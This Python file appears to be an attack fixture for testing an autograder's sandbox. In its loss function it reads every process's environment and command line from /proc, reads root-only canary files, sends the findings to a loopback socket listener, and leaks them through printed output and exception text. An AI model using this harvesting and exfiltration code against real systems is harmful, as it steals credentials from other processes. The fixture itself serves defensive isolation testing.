"""ATTACK snoop_and_call_out: steal the grader's secrets and send them out.

What it tries: reads the environment and command line of every process it can see (the grading
process's environment holds credentials on a course server), a root-only canary file and every
file of the canary folder; connects to a listener on the host's loopback interface (the tests
run one) and sends what it found; then puts everything it read into its printed output and its
exception messages, which the grader turns into feedback.

What the grader must guarantee: the worker sees no other process's environment, no file it was
not given and no network, not even loopback: no secret appears in any output, the listener
hears nothing, and the functions score as the honest twin (the same values).
"""

import os
import socket

import numpy as np

ATTACK = True  # the honest twin sets this to False
CANARY = "@CANARY@"  # the tests write their canary folder here
PORT = "@PORT@"  # and the port of their listener


def _loot() -> str:
    found = []
    for pid in os.listdir("/proc"):
        if pid.isdigit():
            for what in ("environ", "cmdline"):
                try:
                    with open(f"/proc/{pid}/{what}", "rb") as fh:
                        found.append(fh.read(20000).replace(b"\0", b" ").decode(errors="ignore"))
                except OSError:
                    pass
    for name in ("root-only.txt", "world-readable.txt", "grader-only.txt"):
        try:
            with open(f"{CANARY}/{name}") as fh:
                found.append(fh.read(2000))
        except OSError:
            pass
    return "\n".join(found)


def _call_out(loot: str) -> None:
    try:
        with socket.create_connection(("127.0.0.1", int(PORT)), timeout=2) as conn:
            conn.sendall(b"BPATTACK-NET " + loot.encode()[:10000])
    except (OSError, ValueError):
        pass


def mse_loss(Y_hat, Y):
    if ATTACK:
        loot = _loot()
        _call_out(loot)
        print(loot[:50000])
        raise RuntimeError("BPATTACK-LOOT " + loot[:5000])
    return float(np.sum((np.asarray(Y) - np.asarray(Y_hat)) ** 2) / (2 * np.asarray(Y).shape[1]))


def mse_loss_backward(Y_hat, Y):
    return np.asarray(Y_hat, dtype=float) - np.asarray(Y, dtype=float)
